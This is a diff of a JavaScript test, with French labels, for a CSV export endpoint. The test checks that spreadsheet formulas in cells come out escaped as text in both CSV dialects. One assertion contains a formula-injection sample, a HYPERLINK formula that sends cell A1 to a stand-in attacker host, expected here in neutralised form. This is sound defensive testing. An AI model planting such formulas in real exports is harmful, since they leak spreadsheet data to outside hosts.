@@ -20,7 +20,10 @@ test('export CSV de l’Atlas : les formules sortent en texte, dans les deux dia
     const response = await t.app.inject(`/api/v1/organisations.csv?commune=26362${dialect}`);
     assert.equal(response.statusCode, 200);
     const lines = response.body.split('\r\n');
-    assert.ok(lines.some((line) => line.includes(`"'=HYPERLINK(""https://attaquant.example""&A1;""Voir"")"`)), response.body);
+    assert.ok(
+      lines.some((line) => line.includes(`"'=HYPERLINK(""https://attaquant.example""&A1;""Voir"")"`)),
+      response.body,
+    );
     assert.ok(lines.some((line) => line.includes("'@SOMME(A1)")));
     assert.ok(lines.some((line) => line.includes("'-Association du moins")));
     for (const line of lines) for (const cell of line.split(dialect ? ',' : ';')) assert.doesNotMatch(cell, /^"?[=+@]/);
